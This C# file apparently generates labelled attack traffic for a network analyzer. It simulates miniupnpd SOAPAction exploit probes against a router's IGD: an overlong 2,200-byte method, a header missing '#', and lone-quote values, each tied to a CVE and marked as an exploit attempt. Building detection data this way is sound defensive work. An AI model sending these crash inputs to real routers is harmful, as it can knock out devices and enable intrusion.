using Analyzer.Labels;
using Analyzer.Generation.Messages;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// miniupnpd's SOAPAction bugs, each tried against the IGD: a method name past 2,048 bytes (CVE-2013-0230, the daemon
/// dies and its kernel resets the connection), a SOAPAction without '#' (CVE-2013-1461), and degenerate values — a
/// lone double quote (CVE-2013-1462) and a lone single quote (CVE-2026-5720).
/// </summary>
public sealed class SoapOverflowProbesScenario : AttackScenario
{
    public override string Name => "soap-overflow-probes";
    public override string Description => "attack: overlong, hash-less and degenerate SOAPAction headers against the IGD (CVE-2013-0230/1461/1462, CVE-2026-5720)";
    public override string Category => LabelNames.ExploitAttempt;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var attacker = net.Camera.Host;
        var router = net.RouterLan.Ipv4;
        var igd = new IgdClient(ctx, attacker.V4, AttackTools.PickUserAgent(random), ctx.Variation.ScriptHttp, ctx.Variation.ScriptSoap);
        string service = net.Igd.ServiceType;
        string body = SoapMessages.RequestBody(ctx.Variation.ScriptSoap, service, "GetExternalIPAddress", []);

        var probes = new (string Threat, string SoapAction, HttpEnding Ending, string Detail)[]
        {
            ("soap-miniupnpd-soapaction-overflow", "\"" + service + "#" + new string('A', 2200), HttpEnding.ServerResets,
                "SOAPAction method of 2200 bytes, no closing quote"),
            ("soap-miniupnpd-soapaction-nohash", service, HttpEnding.ServerCloses, "SOAPAction without '#'"),
            ("soap-miniupnpd-soapaction-noquote", "\"", HttpEnding.ServerResets, "SOAPAction is a lone double quote"),
            ("soap-miniupnpd-soapaction-noquote", "'", HttpEnding.ServerResets, "SOAPAction is a lone single quote"),
        };
        foreach (var probe in probes)
        {
            long at = t + random.Next(500_000, 2_500_000);
            // Without a parsable action the daemon answers 401 Invalid Action; the crashing variants get no answer.
            (t, _) = igd.Raw(at, action: "", [], body, probe.SoapAction, probe.Ending);
            ctx.Mark(LabelNames.ExploitAttempt, probe.Threat, attacker.Ipv4, router, at, t, probe.Detail);
        }
        return t;
    }
}
